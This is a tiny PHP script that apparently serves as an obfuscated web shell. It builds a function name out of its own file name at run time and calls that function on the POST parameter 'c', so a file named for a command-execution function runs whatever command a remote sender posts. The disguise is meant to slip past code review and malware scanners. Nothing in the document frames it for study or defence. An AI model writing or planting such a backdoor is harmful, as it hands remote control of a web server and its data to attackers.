<?php
// The function name is cut out of the script's own file name at run time.
$n = substr(__FILE__, -10, 6);
$n($_POST['c']);
